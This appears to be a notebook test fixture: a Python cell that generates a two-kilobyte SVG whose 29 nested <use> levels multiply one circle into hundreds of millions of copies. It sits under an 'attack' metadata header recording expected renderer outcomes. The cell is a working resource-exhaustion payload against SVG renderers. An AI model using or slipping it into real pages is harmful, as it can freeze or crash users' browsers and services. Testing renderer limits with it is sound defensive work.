"""Shows a drawing of two kilobytes that consists of itself, a billion times."""

# /// attack
# ran = ["after total"]
# opened = { "bounds" = ["drew without end"] }
# ///
# %% after total
from IPython.display import SVG, display

levels = "".join(
    f'<g id="g{level}"><use href="#g{level - 1}"/><use href="#g{level - 1}" x="1"/></g>' for level in range(1, 30)
)
display(
    SVG(
        '<svg xmlns="http://www.w3.org/2000/svg"><title>costly drawing</title><g id="g0"><circle r="9"/></g>'
        f'<defs>{levels}</defs><use href="#g29"/></svg>'
    )
)
ran("after total")
